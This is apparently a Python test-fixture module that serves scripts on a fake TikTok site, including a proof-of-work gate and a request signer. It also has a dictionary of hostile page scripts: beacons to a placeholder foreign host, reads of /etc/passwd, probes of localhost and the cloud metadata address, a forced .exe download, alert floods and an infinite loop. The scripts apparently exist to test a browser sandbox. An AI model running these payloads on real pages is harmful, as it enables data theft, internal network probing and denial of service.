"""The scripts on the fake's pages, and what they have to compute, in Python too.

Nothing here is TikTok's: each stands for a kind of script that only a browser runs.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Collection, Mapping
from urllib.parse import urlencode

SECRET = b"only the fake's own scripts know"
SCRIPT_HOST = "lf16-tiktok-web.ttwstatic.com"
GATE_PATH = "/obj/tiktok-web-us/waf/gate.js"
PASS_COOKIE = "_wafgate"
SIGNATURE = "X-Gnarly"
_ROUNDS = 5000
_OFFSET, _PRIME = 0x811C9DC5, 0x01000193

_HASH = (
    "const fnv=(text,from)=>{let h=from>>>0;for(let i=0;i<text.length;i++)"
    f"h=Math.imul(h^text.charCodeAt(i),{_PRIME})>>>0;return h}};"
)


def _fnv(text: str, start: int = _OFFSET) -> int:
    """FNV-1a of 32 bits, in which pages and the fake can agree without a library."""
    value = start
    for character in text:
        value = ((value ^ ord(character)) * _PRIME) & 0xFFFFFFFF
    return value


def _mac(*parts: str) -> str:
    return hmac.new(SECRET, "\n".join(parts).encode(), hashlib.sha256).hexdigest()[:20]


# --- the wall -------------------------------------------------------------------------------------

GATE = (
    f"(()=>{{{_HASH}"
    'const nonce=document.getElementById("wg").className;'
    f"let value={_OFFSET};for(let i=0;i<{_ROUNDS};i++)value=fnv(nonce,value);"
    f"document.cookie=`{PASS_COOKIE}=${{nonce}}.${{value}}"
    "; path=/; domain=.tiktok.com; max-age=600; secure`;"
    "location.reload()})()"
)
"""Computes the pass from the nonce on a wall, keeps it as a cookie and asks for the page again."""


def nonce(serial: int) -> str:
    """A nonce that this site gave."""
    return f"{serial}-{_mac('gate', str(serial))}"


def gate_pass(given: str) -> str:
    """The cookie that a nonce is worth to whoever ran the wall's script."""
    value = _OFFSET
    for _ in range(_ROUNDS):
        value = _fnv(given, value)
    return f"{given}.{value}"


def passes(cookies: Mapping[str, str]) -> bool:
    """Whether somebody ran the wall's script on a nonce of ours."""
    cookie = cookies.get(PASS_COOKIE, "")
    given = cookie.partition(".")[0]
    serial = given.partition("-")[0]
    return serial.isdigit() and nonce(int(serial)) == given and gate_pass(given) == cookie


PUZZLE_SOLVER = """
addEventListener("DOMContentLoaded", async () => {
  const said = id => document.getElementById(id)?.className || "";
  const bytes = text => Uint8Array.from(atob(text), c => c.charCodeAt(0));
  const puzzle = JSON.parse(atob(said("cs")));
  const prefix = bytes(puzzle.v.a), wanted = bytes(puzzle.v.c).join();
  for (let n = 0; n <= 1000000; n++) {
    const tail = new TextEncoder().encode(String(n));
    const whole = new Uint8Array(prefix.length + tail.length);
    whole.set(prefix);
    whole.set(tail, prefix.length);
    if (new Uint8Array(await crypto.subtle.digest("SHA-256", whole)).join() !== wanted) continue;
    puzzle.d = btoa(String(n));
    const keep = (name, value) => {
      document.cookie = `${name}=${value}; path=/; domain=.tiktok.com; max-age=5; secure`;
    };
    keep(said("wci"), btoa(JSON.stringify(puzzle)));
    if (said("rs")) keep(said("rci"), said("rs"));
    location.reload();
    return;
  }
});
"""
"""The script of the puzzle page (pages.Puzzle): it answers as ours does."""


# --- the signature of the list --------------------------------------------------------------------


def signing_key(token: str) -> str:
    """The key on the pages of a session, by its tt_chain_token."""
    return _mac("sign", token)


def signer(key: str) -> str:
    """The script that patches a page's `fetch` so that requests of the API are signed."""
    return (
        f"(()=>{{{_HASH}const key={json.dumps(key)},plain=window.fetch;"
        "window.fetch=function(asked,...rest){"
        "const url=new URL(asked instanceof Request?asked.url:asked,location.href);"
        'if(url.host===location.host&&url.pathname.startsWith("/api/")){'
        f'const query=url.search.slice(1);url.search=query+"&{SIGNATURE}="'
        f"+fnv(key+query,{_OFFSET});"
        "asked=url.href}return plain.call(this,asked,...rest)}})()"
    )


def is_signed(query: str, token: str) -> bool:
    """Whether the patched `fetch` of a page of this session sent a query."""
    bare, mark, signature = query.partition(f"&{SIGNATURE}=")
    return bool(mark) and signature == str(_fnv(signing_key(token) + bare))


OWN_PAGE_SIZE = 6
"""The number of stories that a page's own request asks for: not what ours asks for."""


def asker(author_id: str) -> str:
    """The script of a page that asks for the author's story list by itself, after it loaded."""
    query = urlencode(
        {
            "WebIdLastTime": "1790000000",
            "aid": "1988",
            "app_language": "en",
            "authorId": author_id,
            "count": str(OWN_PAGE_SIZE),
            "cursor": "0",
            "device_platform": "web_pc",
            "loadBackward": "false",
        }
    )
    address = f"/api/story/item_list/?{query}"
    return (
        'addEventListener("load",()=>setTimeout(async()=>{'
        f'const answer=await fetch({json.dumps(address)},{{credentials:"include"}});'
        "try{window.listed=(await answer.json()).itemList}catch{}},50))"
    )


# --- pages that mean no good ----------------------------------------------------------------------

_DOWNLOAD = base64.b64encode(b"unwanted").decode()

TRICKS: dict[str, str] = {
    "fetch": (
        'fetch("https://HOST/fetch",{mode:"no-cors"}).catch(()=>{});'
        'navigator.sendBeacon("https://HOST/beacon","x");'
        'const asked=new XMLHttpRequest();asked.open("GET","https://HOST/xhr");asked.send();'
    ),
    "socket": 'new WebSocket("wss://HOST/socket");try{new WebSocket("ws://HOST/socket")}catch{}',
    "picture": 'new Image().src="https://HOST/picture.png";',
    "frame": (
        'for(const address of ["https://HOST/frame","http://HOST/frame","file:///etc/passwd"]){'
        'const frame=document.createElement("iframe");frame.src=address;'
        "document.body.append(frame)}"
    ),
    "hints": (
        'for(const kind of ["dns-prefetch","preconnect","prefetch","stylesheet"]){'
        'const link=document.createElement("link");link.rel=kind;'
        'link.href="https://HOST/"+kind;document.head.append(link)}'
    ),
    "script": (
        'const script=document.createElement("script");script.src="https://HOST/script.js";'
        "document.head.append(script);"
    ),
    "file": (
        'fetch("file:///etc/passwd").then(a=>a.text()).then(text=>{window.stolen=text})'
        ".catch(()=>{});"
        'const door=document.createElement("a");door.href="file:///etc/passwd";'
        "document.body.append(door);door.click();"
    ),
    "local": (
        'for(const host of ["127.0.0.1","[::1]","169.254.169.254","localhost"])'
        'fetch(`http://${host}:PORT/`,{mode:"no-cors"}).then(()=>{window.inside=host})'
        ".catch(()=>{});"
    ),
    "peer": (
        'const peer=new RTCPeerConnection({iceServers:[{urls:"stun:HOST:3478"}]});'
        'peer.createDataChannel("x");'
        "peer.createOffer().then(offer=>peer.setLocalDescription(offer));"
    ),
    "window": 'window.open("https://HOST/window");window.open("https://www.tiktok.com/");',
    "download": (
        'const file=document.createElement("a");file.download="unwanted.exe";'
        f'file.href="data:application/octet-stream;base64,{_DOWNLOAD}";'
        "document.body.append(file);file.click();"
    ),
    "worker": (
        'new Worker(URL.createObjectURL(new Blob([\'fetch("https://HOST/worker").catch(()=>{});'
        'new WebSocket("wss://HOST/worker")\'])));'
        'navigator.serviceWorker?.register("/sw.js").catch(()=>{});'
    ),
    "alerts": "for(let i=0;i<200;i++)alert(`again ${i}`);onbeforeunload=()=>1;",
    "lies": (
        'window.fetch=async()=>new Response(\'{"statusCode":0,"itemList":[]}\');'
        'JSON.stringify=()=>"{}";'
    ),
    "leave": 'setTimeout(()=>{location.href="https://HOST/left"},300);',
    "spin": "setTimeout(()=>{for(;;);},300);",
}
"""Name of a trick -> the script that tries it. HOST: a foreign host. PORT: one of this machine's.

"leave" and "spin" end the page itself: they are tried only where they are named.
"""
ENDING = frozenset({"leave", "spin"})


def hostile(tricks: Collection[str], host: str, port: int) -> str:
    """The script that tries these tricks one after the other, whatever becomes of each."""
    tried = (TRICKS[name].replace("HOST", host).replace("PORT", str(port)) for name in tricks)
    return "".join(f"try{{(()=>{{{source}}})()}}catch{{}}" for source in tried)


def leave_for(address: str) -> str:
    """The script of a page that goes elsewhere as soon as it is there."""
    return f"location.replace({json.dumps(address)})"
